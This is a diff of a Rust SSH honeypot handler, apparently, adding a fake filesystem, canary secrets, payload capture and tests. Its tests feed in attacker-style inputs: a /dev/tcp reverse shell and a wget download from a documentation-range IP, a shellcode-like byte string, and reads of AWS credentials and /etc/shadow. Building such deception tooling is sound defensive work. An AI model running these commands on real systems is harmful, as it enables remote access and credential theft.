+                continue;
+            } else if let Err(e) = self.filesystem.remove(path) {
+                output.push_str(&format!("{}\n", e));
+            }
         }
+        output
     }
 
-    async fn handle_echo(&self, cmd: &Command) -> String {
-        format!("{}\n", cmd.args.join(" "))
+    async fn handle_touch(&mut self, cmd: &Command) -> String {
+        let mut output = String::new();
+        for path in cmd.args.iter().filter(|arg| !arg.starts_with('-')) {
+            if let Err(e) = self.filesystem.create_file(path) {
+                output.push_str(&format!("{}\n", e));
+            }
+        }
+        output
+    }
+
+    async fn handle_mkdir(&mut self, cmd: &Command) -> String {
+        let (flags, paths): (Vec<&String>, Vec<&String>) =
+            cmd.args.iter().partition(|arg| arg.starts_with('-'));
+        let parents = flags
+            .iter()
+            .any(|flag| *flag == "--parents" || (!flag.starts_with("--") && flag.contains('p')));
+
+        let mut output = String::new();
+        for path in paths {
+            let result = if parents {
+                self.filesystem.mkdir_all(path)
+            } else {
+                self.filesystem.mkdir(path)
+            };
+            if let Err(e) = result {
+                output.push_str(&format!("{}\n", e));
+            }
+        }
+        output
+    }
+
+    async fn handle_echo(&mut self, cmd: &Command) -> String {
+        // Umleitung (`>`/`>>`, auch `>datei`) schreibt ins Fake-Dateisystem
+        let Some(pos) = cmd.args.iter().position(|arg| arg.starts_with('>')) else {
+            return format!("{}\n", cmd.args.join(" "));
+        };
+
+        let operator = &cmd.args[pos];
+        let append = operator.starts_with(">>");
+        let attached = operator.trim_start_matches('>');
+        let target = if attached.is_empty() {
+            cmd.args.get(pos + 1).map(String::as_str)
+        } else {
+            Some(attached)
+        };
+        let Some(target) = target else {
+            return "-bash: syntax error near unexpected token `newline'\n".to_string();
+        };
+
+        let mut content = format!("{}\n", cmd.args[..pos].join(" "));
+        if append {
+            if let Ok(existing) = self.filesystem.read_file(target) {
+                content = existing + &content;
+            }
+        }
+        match self.filesystem.write_file(target, &content) {
+            Ok(()) => String::new(),
+            Err(e) => format!("{}\n", e),
+        }
     }
 
     async fn handle_history(&self) -> String {
@@ -214,15 +988,27 @@ impl SshInteractionHandler {
              Total Commands: {}\n\
              Malicious Commands: {}\n\
              Unique Commands: {}\n\
-             Most Common: {:?}\n",
+             Most Common: {:?}\n\
+             Terminal: {}\n\
+             Env Requests: {:?}\n",
             stats.total_commands,
             stats.malicious_commands,
             stats.unique_commands,
-            stats.most_common
+            stats.most_common,
+            self.channel_requests.term.as_deref().unwrap_or("-"),
+            self.channel_requests.env
         )
     }
 }
 
+/// Ungültiges UTF-8 oder Steuerzeichen (außer Tab)?
+fn is_binary(input: &[u8]) -> bool {
+    match std::str::from_utf8(input) {
+        Ok(text) => text.chars().any(|c| c.is_control() && c != '\t'),
+        Err(_) => true,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -254,4 +1040,368 @@ mod tests {
         let stats = handler.command_parser.get_stats();
         assert!(stats.malicious_commands > 0);
     }
+
+    #[tokio::test]
+    async fn test_invalid_utf8_captured_as_bytes() {
+        let mut handler = SshInteractionHandler::new("test".to_string());
+        let payload: &[u8] = b"\x90\x90\xeb\x1f\x5e/bin/sh\x00\xff\n";
+
+        let output = handler.execute_raw(payload).await;
+        assert!(output.ends_with("command not found\n"));
+
+        assert_eq!(handler.binary_payloads().len(), 1);
+        assert_eq!(handler.binary_payloads()[0], &payload[..payload.len() - 1]);
+    }
+
+    #[tokio::test]
+    async fn test_plain_raw_input_not_captured() {
+        let mut handler = SshInteractionHandler::new("test".to_string());
+        let output = handler.execute_raw(b"whoami\r\n").await;
+        assert_eq!(output, "admin\n");
+        assert!(handler.binary_payloads().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_binary_payload_capture_is_capped() {
+        let mut handler = SshInteractionHandler::new("test".to_string());
+        let mut payload = vec![0x90u8; DEFAULT_MAX_SSH_COMMAND - 1];
+        payload.push(b'\n');
+        let fits = MAX_BINARY_PAYLOAD_BYTES / (DEFAULT_MAX_SSH_COMMAND - 1);
+
+        for _ in 0..fits + 3 {
+            handler.execute_raw(&payload).await;
+        }
+
+        assert_eq!(handler.binary_payloads().len(), fits);
+        assert_eq!(handler.dropped_binary_payloads(), 3);
+        let captured: usize = handler.binary_payloads().iter().map(Vec::len).sum();
+        assert!(captured <= MAX_BINARY_PAYLOAD_BYTES);
+    }
+
+    #[tokio::test]
+    async fn test_reading_planted_secret_fires_canary() {
+        let canaries = Arc::new(CanaryRegistry::new());
+        let mut handler =
+            SshInteractionHandler::new("test".to_string()).with_canary_registry(canaries.clone());
+
+        assert!(handler.execute_command("cat /etc/hosts").await.contains("localhost"));
+        assert!(canaries.events().is_empty());
+
+        let output = handler.execute_command("cat ~/.aws/credentials").await;
+        assert!(output.contains("aws_access_key_id = AKIA"));
+
+        let events = canaries.events();
+        assert_eq!(events.len(), 2);
+        assert!(events.iter().all(|e| e.access == CanaryAccess::FileRead));
+        assert!(events.iter().any(|e| e.kind == CanaryKind::AwsAccessKey));
+        assert_eq!(events[0].location, "/home/admin/.aws/credentials");
+    }
+
+    #[tokio::test(start_paused = true)]
+    async fn test_deep_strategy_delay_with_paused_time() {
+        use super::super::response_generator::ResponseStrategy;
+        use crate::clock::RecordingSleeper;
+
+        let generator = ResponseGenerator::new(ResponseStrategy::Deep);
+        let expected = generator.command_delay("pwd", "/home/admin\n".len());
+        let mut handler = SshInteractionHandler::new("paused".to_string())
+            .with_response_generator(generator);
+
+        let start = tokio::time::Instant::now();
+        let output = handler.execute_command("pwd").await;
+        assert_eq!(output, "/home/admin\n");
+        // Tokio-Timer haben Millisekunden-Auflösung
+        let elapsed = start.elapsed();
+        assert!(elapsed >= expected && elapsed - expected < Duration::from_millis(1));
+        // Deep = doppelte Standard-Latenz
+        assert_eq!(
+            expected,
+            ResponseGenerator::default()
+                .command_delay("pwd", output.len())
+                .mul_f64(2.0)
+        );
+
+        // Ohne Runtime-Zeit: Sleeper zeichnet nur auf
+        let sleeper = Arc::new(RecordingSleeper::new());
+        let mut handler = SshInteractionHandler::new("recorded".to_string())
+            .with_response_generator(ResponseGenerator::new(ResponseStrategy::Deep))
+            .with_sleeper(sleeper.clone());
+        let start = tokio::time::Instant::now();
+        handler.execute_command("pwd").await;
+        assert_eq!(start.elapsed(), Duration::ZERO);
+        assert_eq!(sleeper.delays(), [expected]);
+    }
+
+    #[tokio::test]
+    async fn test_large_output_delivered_in_pages() {
+        let mut handler = SshInteractionHandler::new("pager".to_string())
+            .with_sleeper(Arc::new(crate::clock::RecordingSleeper::new()))
+            .with_terminal_size(80, 5)
+            .with_paging(true);
+        let log: String = (1..=10).map(|i| format!("line {}\n", i)).collect();
+        handler.filesystem.plant_file("/var/log/app.log", "-rw-r--r--", &log);
+
+        let page = handler.execute_command("cat /var/log/app.log").await;
+        assert_eq!(page, "line 1\nline 2\nline 3\nline 4\n--More--(40%)");
+        assert!(handler.is_paging());
+
+        // Leertaste = nächste Seite, Enter = nächste Zeile
+        let page = handler.execute_command(" ").await;
+        assert_eq!(page, "line 5\nline 6\nline 7\nline 8\n--More--(80%)");
+        assert_eq!(handler.execute_command("").await, "line 9\n--More--(90%)");
+        assert_eq!(handler.execute_command(" ").await, "line 10\n");
+        assert!(!handler.is_paging());
+
+        // Kurze Ausgaben ohne Pager, `less` paginiert immer
+        assert_eq!(handler.execute_command("pwd").await, "/home/admin\n");
+        let mut handler = SshInteractionHandler::new("less".to_string())
+            .with_sleeper(Arc::new(crate::clock::RecordingSleeper::new()))
+            .with_terminal_size(80, 2);
+        assert_eq!(
+            handler.execute_command("less /etc/passwd").await,
+            "root:x:0:0:root:/root:/bin/bash\n--More--(50%)"
+        );
+        assert_eq!(handler.execute_command("q").await, "");
+        assert!(!handler.is_paging());
+    }
+
+    #[tokio::test]
+    async fn test_banner_delay_jittered_within_configured_range() {
+        use super::super::response_generator::BannerDelay;
+        use crate::clock::RecordingSleeper;
+
+        let sleeper = Arc::new(RecordingSleeper::new());
+        let handler = SshInteractionHandler::new("banner".to_string())
+            .with_sleeper(sleeper.clone())
+            .with_banner_delay(BannerDelay {
+                base_ms: 300.0,
+                jitter_ms: 100.0,
+            });
+
+        for _ in 0..20 {
+            assert_eq!(handler.send_banner().await, DEFAULT_BANNER);
+        }
+
+        let delays = sleeper.delays();
+        assert_eq!(delays.len(), 20);
+        assert!(delays
+            .iter()
+            .all(|d| (200..=400).contains(&d.as_millis())));
+        // Gejittert statt konstant
+        assert!(delays.iter().any(|d| *d != delays[0]));
+    }
+
+    #[test]
+    fn test_env_request_term_recorded() {
+        let mut handler = SshInteractionHandler::new("env".to_string());
+        handler.handle_env_request("TERM", "xterm-256color");
+        handler.handle_env_request("LANG", "en_US.UTF-8");
+
+        let requests = handler.channel_requests();
+        assert_eq!(requests.term.as_deref(), Some("xterm-256color"));
+        assert_eq!(
+            requests.env,
+            [
+                ("TERM".to_string(), "xterm-256color".to_string()),
+                ("LANG".to_string(), "en_US.UTF-8".to_string()),
+            ]
+        );
+        assert!(handler.get_stats().contains("Terminal: xterm-256color"));
+
+        // PTY-Request hat Vorrang und setzt die Terminal-Größe
+        handler.handle_pty_request("screen", 132, 43);
+        assert_eq!(handler.channel_requests().term.as_deref(), Some("screen"));
+        assert_eq!(
+            handler.channel_requests().window,
+            Some(TerminalSize { cols: 132, rows: 43 })
+        );
+    }
+
+    #[tokio::test]
+    async fn test_reverse_shell_enters_capture_mode() {
+        let mut handler = SshInteractionHandler::new("revshell".to_string())
+            .with_sleeper(Arc::new(crate::clock::RecordingSleeper::new()))
+            .with_reverse_shell_simulation(true);
+
+        let output = handler
+            .execute_command("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
+            .await;
+        assert!(output.contains("no job control in this shell"));
+
+        // Folge-Commands werden erfasst und weiterhin beantwortet
+        assert_eq!(handler.execute_command("id").await, handler.handle_id().await);
+        handler.execute_command("wget http://203.0.113.5/x.sh").await;
+
+        let shell = handler.reverse_shell().unwrap();
+        assert_eq!(shell.target().host, "203.0.113.5");
+        assert_eq!(shell.target().port, 4444);
+        assert_eq!(shell.captured(), ["id", "wget http://203.0.113.5/x.sh"]);
+    }
+
+    #[tokio::test]
+    async fn test_relogin_after_exit_captures_second_login() {
+        let store = Arc::new(CredentialStore::new());
+        let mut handler = SshInteractionHandler::new("relogin".to_string())
+            .with_sleeper(Arc::new(crate::clock::RecordingSleeper::new()))
+            .with_credential_store(store.clone(), "198.51.100.7".parse().unwrap())
+            .with_exit_behavior(ExitBehavior::Relogin);
+
+        handler.authenticate("admin", "admin123").await;
+        assert_eq!(handler.execute_command("exit").await, "logout\n\n");
+        assert!(!handler.is_disconnected());
+        assert_eq!(handler.get_prompt(), "ubuntu-server login: ");
+
+        handler.execute_command("root").await;
+        assert_eq!(handler.get_prompt(), "Password: ");
+        assert!(handler.execute_command("toor").await.contains("Last login"));
+        assert_eq!(handler.get_prompt(), "root@ubuntu-server:/root# ");
+        assert_eq!(handler.execute_command("whoami").await, "root\n");
+
+        let logins: Vec<_> = store
+            .records()
+            .into_iter()
+            .map(|r| (r.username, r.password))
+            .collect();
+        assert_eq!(
+            logins,
+            [
+                ("admin".to_string(), "admin123".to_string()),
+                ("root".to_string(), "toor".to_string()),
+            ]
+        );
+
+        // Default: Verbindung wird beendet
+        let mut handler = SshInteractionHandler::new("disconnect".to_string())
+            .with_sleeper(Arc::new(crate::clock::RecordingSleeper::new()));
+        assert_eq!(handler.execute_command("logout").await, "logout\n");
+        assert!(handler.is_disconnected());
+    }
+
+    #[tokio::test]
+    async fn test_subshell_exit_keeps_session() {
+        let mut handler = SshInteractionHandler::new("subshell".to_string())
+            .with_sleeper(Arc::new(crate::clock::RecordingSleeper::new()))
+            .with_exit_behavior(ExitBehavior::SubShell);
+
+        handler.execute_command("bash").await;
+        handler.execute_command("cd /tmp").await;
+        assert_eq!(handler.execute_command("exit").await, "exit\n");
+        assert_eq!(handler.get_prompt(), "admin@ubuntu-server:/home/admin$ ");
+
+        // Login-Shell: frische Shell statt Disconnect
+        handler.execute_command("cd /var/log").await;
+        assert_eq!(handler.execute_command("logout").await, "exit\n");
+        assert!(!handler.is_disconnected());
+        assert_eq!(handler.execute_command("pwd").await, "/home/admin\n");
+    }
+
+    #[tokio::test]
+    async fn test_bot_session_lowers_engagement() {
+        use super::super::response_generator::ResponseStrategy;
+
+        let clock = Arc::new(crate::clock::MockClock::new());
+        let traffic = TrafficCounter::new();
+        let mut handler = SshInteractionHandler::new("bot".to_string())
+            .with_sleeper(Arc::new(crate::clock::RecordingSleeper::new()))
+            .with_clock(clock.clone())
+            .with_traffic_counter(traffic.clone())
+            .with_response_generator(ResponseGenerator::new(ResponseStrategy::Adaptive));
+        let initial = handler.response_generator.engagement_level();
+
+        for command in ["uname -a", "nproc", "uname -a", "nproc", "uname -a"] {
+            handler.execute_command(command).await;
+            clock.advance(Duration::from_millis(100));
+        }
+
+        assert_eq!(handler.behavior_class(), BehaviorClass::Automated);
+        assert!(handler.response_generator.engagement_level() < initial);
+        // Router übernimmt die Einstufung in den RL State
+        assert_eq!(traffic.stats().behavior, BehaviorClass::Automated);
+    }
+
+    #[tokio::test]
+    async fn test_restricted_shell_only_runs_allowed_commands() {
+        let mut handler = SshInteractionHandler::new("rbash".to_string())
+            .with_sleeper(Arc::new(crate::clock::RecordingSleeper::new()))
+            .with_unknown_command_strategy(UnknownCommandStrategy::RestrictedShell {
+                allowed: vec!["id".to_string(), "ls".to_string()],
+            });
+
+        assert_eq!(handler.execute_command("id").await, handler.handle_id().await);
+        assert_eq!(
+            handler.execute_command("cat /etc/shadow").await,
+            "*** forbidden command: cat\n"
+        );
+        assert_eq!(
+            handler.execute_command("nmap 10.0.0.0/8").await,
+            "*** forbidden command: nmap\n"
+        );
+
+        let denied = UnknownCommandStrategy::PermissionDenied;
+        assert!(denied.allows("nmap"));
+        assert_eq!(denied.response("nmap"), "-bash: nmap: Permission denied\n");
+    }
+
+    #[tokio::test(start_paused = true)]
+    async fn test_session_closed_when_engagement_budget_exhausted() {
+        use super::super::response_generator::ResponseStrategy;
+
+        let mut handler = SshInteractionHandler::new("budget".to_string())
+            .with_clock(Arc::new(crate::clock::TokioClock))
+            .with_response_generator(ResponseGenerator::new(ResponseStrategy::Deep))
+            .with_max_engagement(Duration::from_secs(2));
+
+        // Aktive Session: jede Antwort kostet Deep-Latenz
+        let mut commands = 0;
+        while !handler.is_disconnected() {
+            handler.execute_command("ls -la").await;
+            commands += 1;
+            assert!(commands < 1_000, "budget never enforced");
+        }
+
+        assert!(commands > 1);
+        assert_eq!(
+            handler.close_reason(),
+            Some(CloseReason::EngagementBudgetExhausted)
+        );
+        assert!(handler.response_generator.total_time_wasted() >= Duration::from_secs(2));
+        assert_eq!(handler.execute_command("id").await, "");
+    }
+
+    #[tokio::test]
+    async fn test_shell_writes_are_visible_to_cat() {
+        let mut handler = SshInteractionHandler::new("test".to_string());
+        assert_eq!(handler.execute_command("echo x > /tmp/foo").await, "");
+        assert_eq!(handler.execute_command("echo y >>/tmp/foo").await, "");
+        assert_eq!(handler.execute_command("cat /tmp/foo").await, "x\ny\n");
+
+        assert_eq!(handler.execute_command("mkdir -p /tmp/.x").await, "");
+        assert_eq!(handler.execute_command("mkdir -p /tmp/.x/a/b /tmp").await, "");
+        assert!(handler.execute_command("ls /tmp/.x/a").await.contains("b"));
+        assert_eq!(
+            handler.execute_command("mkdir /tmp/.x").await,
+            "mkdir: cannot create directory '/tmp/.x': File exists\n"
+        );
+        assert_eq!(
+            handler.execute_command("mkdir /tmp/.y/z").await,
+            "mkdir: cannot create directory '/tmp/.y/z': No such file or directory\n"
+        );
+        assert_eq!(
+            handler.execute_command("mkdir -p /etc/.hidden/x").await,
+            "mkdir: cannot create directory '/etc/.hidden/x': Permission denied\n"
+        );
+        assert_eq!(handler.execute_command("touch /tmp/.x/payload").await, "");
+        assert!(handler.execute_command("ls -la /tmp/.x").await.contains("admin admin"));
+        assert_eq!(
+            handler.execute_command("rm /tmp/.x").await,
+            "rm: cannot remove '/tmp/.x': Is a directory\n"
+        );
+        assert_eq!(handler.execute_command("rm -rf /tmp/.x /tmp/nope").await, "");
+        assert!(handler.execute_command("cat /tmp/.x/payload").await.contains("No such file"));
+
+        assert_eq!(
+            handler.execute_command("echo pwned > /etc/motd").await,
+            "-bash: /etc/motd: Permission denied\n"
+        );
+    }
 }